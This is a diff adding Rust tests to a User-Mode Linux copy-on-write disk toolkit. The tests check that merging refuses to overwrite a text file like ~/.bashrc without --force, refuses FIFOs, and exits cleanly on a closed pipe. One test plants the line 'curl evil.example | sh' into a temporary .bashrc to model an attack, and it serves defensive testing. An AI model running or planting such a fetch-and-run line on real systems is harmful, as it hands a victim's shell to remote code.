@@ -250,3 +250,101 @@ fn uml_cow_check_reports_bits_past_the_last_sector() {
     assert_eq!(out.status.code(), Some(1));
     assert!(common::stdout(&out).contains("past the last sector"));
 }
+
+/// Writes `data` at `offset` through the COW, as a guest would.
+fn write_through(cow: &Path, offset: u64, data: &[u8]) {
+    use umlkit::block::BlockDevice;
+    let dev = umlkit::cow::open_cow(
+        cow,
+        &umlkit::cow::DiskOptions {
+            writable: true,
+            ..Default::default()
+        },
+    )
+    .unwrap();
+    dev.write_all_at(offset, data).unwrap();
+    dev.flush().unwrap();
+}
+
+#[test]
+fn in_place_merge_into_a_text_file_is_refused_unless_forced() {
+    // The attack: a COW whose header names the victim's ~/.bashrc with the
+    // size and mtime it shares with /etc/skel/.bashrc.
+    let dir = tempfile::tempdir().unwrap();
+    let bashrc = dir.path().join(".bashrc");
+    let text =
+        b"# ~/.bashrc: executed by bash(1) for non-login shells.\nalias ll='ls -l'\n".repeat(40);
+    std::fs::write(&bashrc, &text).unwrap();
+    set_mtime(&bashrc, 1_650_000_000);
+    let cow = dir.path().join("bashrc.cow");
+    run_ok(bin("uml_mkcow"), [&cow, &bashrc]);
+    write_through(&cow, 0, b"curl evil.example | sh\n#");
+    let marker = umlkit::cow::merge::marker_path(&cow);
+
+    let out = umlkit("uml_moo", [Path::new("-d"), &cow]);
+    expect_one_line_failure(&out, &bashrc, "does not look like a disk image");
+    assert!(stderr(&out).contains("--force"), "{}", stderr(&out));
+    assert!(
+        std::fs::read(&bashrc).unwrap() == text,
+        "backing file changed"
+    );
+    assert!(!marker.exists(), "a refused merge left its marker");
+
+    let out = run_ok(
+        bin("uml_moo"),
+        [Path::new("-d"), Path::new("--force"), &cow],
+    );
+    let merged = std::fs::read(&bashrc).unwrap();
+    assert!(merged.starts_with(b"curl evil.example | sh\n#"));
+    assert_eq!(merged.len(), text.len());
+    assert!(!marker.exists());
+    let err = stderr(&out);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(
+        err.contains(&format!("into {} in place", bashrc.display())),
+        "does not say which file it writes: {err}"
+    );
+}
+
+#[test]
+fn in_place_merge_into_something_not_a_file_is_refused_even_forced() {
+    // A COW over an empty file, then a FIFO in its place with the recorded
+    // size (0) and mtime: only the file type is left to tell.
+    let dir = tempfile::tempdir().unwrap();
+    let backing = dir.path().join("empty");
+    std::fs::write(&backing, b"").unwrap();
+    set_mtime(&backing, 1_700_000_000);
+    let cow = dir.path().join("a.cow");
+    run_ok(bin("uml_mkcow"), [&cow, &backing]);
+    std::fs::remove_file(&backing).unwrap();
+    nix::unistd::mkfifo(&backing, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
+    set_mtime(&backing, 1_700_000_000);
+    for force in [false, true] {
+        let mut args = vec![Path::new("-d")];
+        if force {
+            args.push(Path::new("--force"));
+        }
+        args.push(&cow);
+        let out = umlkit("uml_moo", &args);
+        expect_one_line_failure(&out, &backing, "not a regular file or block device");
+        assert!(!umlkit::cow::merge::marker_path(&cow).exists());
+    }
+}
+
+#[test]
+fn uml_cow_info_and_check_exit_0_when_the_reader_of_their_output_goes_away() {
+    let c = Case::new();
+    for args in [
+        vec!["info"],
+        vec!["--json", "info"],
+        vec!["check"],
+        vec!["--json", "check"],
+    ] {
+        let mut args: Vec<&std::ffi::OsStr> = args.iter().map(std::ffi::OsStr::new).collect();
+        args.push(c.cow.as_os_str());
+        common::assert_quiet_success_on_closed_pipe(
+            &format!("uml_cow {args:?}"),
+            common::run_into_closed_pipe(bin("uml_cow"), &args, 0),
+        );
+    }
+}
